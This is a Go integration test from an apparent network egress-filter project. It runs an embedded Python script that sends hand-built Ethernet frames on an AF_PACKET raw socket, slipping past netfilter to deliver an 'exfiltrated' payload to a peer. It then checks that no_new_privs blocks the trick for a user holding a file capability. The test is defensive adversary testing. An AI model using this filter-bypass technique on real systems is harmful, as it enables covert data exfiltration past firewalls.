//go:build linux

package adversary

import (
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/hubwarden/hubwarden/internal/nstest"
)

// sendFrames sends UDP datagrams from the pod's address to the peer's
// port 7777 as whole Ethernet frames on a packet socket (AF_PACKET): they go
// to the device without passing any netfilter hook. It prints what happened.
const sendFrames = `
import socket, struct, sys
src, dst, mac, n = sys.argv[1], sys.argv[2], bytes.fromhex(sys.argv[3].replace(":", "")), int(sys.argv[4])
try:
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
except OSError as e:
    print("packet socket refused:", e.strerror)
    sys.exit(0)
s.bind(("eth0", 0))
def csum(b):
    t = sum(struct.unpack("!10H", b))
    t = (t >> 16) + (t & 0xffff)
    return ~(t + (t >> 16)) & 0xffff
payload = b"exfiltrated " * 100
udp = struct.pack("!HHHH", 40000, 7777, 8 + len(payload), 0) + payload
ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0, socket.inet_aton(src), socket.inet_aton(dst))
ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
frame = mac + s.getsockname()[4] + b"\x08\x00" + ip + udp
sent = 0
for _ in range(n):
    sent += s.send(frame) > 0
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    u.sendto(payload, (dst, 7777))
    udp_send = "sent"
except OSError as e:
    udp_send = e.strerror
print("sent %d frames; the same datagram on a UDP socket: %s" % (sent, udp_send))
`

// TestIntegrationPacketSocket: a packet socket (AF_PACKET, CAP_NET_RAW)
// sends frames past every netfilter hook: the egress filter and the
// tripwire never see them, and hubwarden cannot tell them from the pod's
// own traffic at the device (docs/adversary.md, "Packet sockets"). What
// keeps them out of a user's reach is no_new_privs for a non-root user,
// which `hubwarden verify` checks (no-privilege-gain): with it, even a
// program carrying the capability as a file capability gets none.
//
//   - root with NET_RAW (Kubernetes' default for root): the frames reach
//     a port the egress filter refuses to a UDP socket (the limit);
//   - the notebook user running a copy of python3 that carries
//     cap_net_raw as a file capability: without no_new_privs the frames
//     pass (the control); with it, the packet socket is refused.
func TestIntegrationPacketSocket(t *testing.T) {
	nstest.SkipUnlessRoot(t, "setcap")
	b := newBed(t, 100, true, nil)
	mac := peerMAC(t, b)
	const n = 50

	// A copy of python3 with cap_net_raw+ep, in a directory the user can read.
	dir, err := os.MkdirTemp("", "hwpkt")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	if err := os.Chmod(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	py, err := filepath.EvalSymlinks("/usr/bin/python3")
	if err != nil {
		t.Fatal(err)
	}
	capPy := filepath.Join(dir, "python3")
	if out, err := exec.Command("cp", py, capPy).CombinedOutput(); err != nil {
		t.Fatalf("cp: %v: %s", err, out)
	}
	if out, err := exec.Command("setcap", "cap_net_raw+ep", capPy).CombinedOutput(); err != nil {
		t.Fatalf("setcap on %s: %v: %s", capPy, err, out)
	}

	cases := []struct {
		name   string
		argv   []string
		frames bool // the frames reach the peer
	}{
		{"root with NET_RAW (the limit)", []string{"--inh-caps=-all", "--bounding-set=-all,+net_raw", "/usr/bin/python3"}, true},
		// Through sh: setpriv keeps the saved uid 0, and with it the
		// permitted capabilities, until the next exec (which sets the
		// saved uid to the effective one and drops them, as in a container
		// started as the user).
		{"control: the user, a file capability, no no_new_privs", []string{"--reuid=65534", "--regid=65534", "--clear-groups", "--inh-caps=-all", "/bin/sh", "-c", `exec "$0" "$@"`, capPy}, true},
		{"the user, a file capability, no_new_privs", []string{"--reuid=65534", "--regid=65534", "--clear-groups", "--inh-caps=-all", "--no-new-privs", "/bin/sh", "-c", `exec "$0" "$@"`, capPy}, false},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			got := countUDP(t, b, func() string {
				argv := append(append([]string(nil), tc.argv...), "-c", sendFrames, b.PodIP4, b.PeerIP4, mac, fmt.Sprint(n))
				out, err := b.Pod.Cmd(t.Context(), "setpriv", argv...).CombinedOutput()
				if err != nil {
					t.Fatalf("sender: %v:\n%s", err, out)
				}
				return strings.TrimSpace(string(out))
			})
			t.Logf("%s: the peer received %d of %d frames", tc.name, got.n, n)
			if !strings.Contains(got.out, "UDP socket: Operation not permitted") && !strings.Contains(got.out, "packet socket refused") {
				t.Errorf("the egress filter let the UDP datagram out: %s", got.out)
			}
			switch {
			case tc.frames && got.n != n:
				t.Errorf("%s: %d of %d frames arrived, want all (%s)", tc.name, got.n, n, got.out)
			case !tc.frames && (got.n != 0 || !strings.Contains(got.out, "packet socket refused: Operation not permitted")):
				t.Errorf("%s: %d frames arrived, want the packet socket refused (%s)", tc.name, got.n, got.out)
			}
		})
	}
}

type udpCount struct {
	n   int
	out string
}

// countUDP counts the datagrams the peer receives on port 7777 while send
// runs, and half a second after.
func countUDP(t *testing.T, b *bed, send func() string) udpCount {
	t.Helper()
	pc := b.Peer.ListenPacket("udp4", net.JoinHostPort(b.PeerIP4, "7777"))
	var n int
	var wg sync.WaitGroup
	wg.Go(func() {
		buf := make([]byte, 2048)
		for {
			if _, _, err := pc.ReadFrom(buf); err != nil {
				return
			}
			n++
		}
	})
	out := send()
	time.Sleep(500 * time.Millisecond)
	pc.Close()
	wg.Wait()
	return udpCount{n, out}
}

// peerMAC is the hardware address of the peer's end of the veth.
func peerMAC(t *testing.T, b *bed) string {
	t.Helper()
	for _, f := range strings.Fields(b.Peer.MustRun("ip", "-o", "link", "show", "dev", "eth0")) {
		if hw, err := net.ParseMAC(f); err == nil && len(hw) == 6 && f != "ff:ff:ff:ff:ff:ff" {
			return f
		}
	}
	t.Fatal("no MAC address on the peer's eth0")
	return ""
}
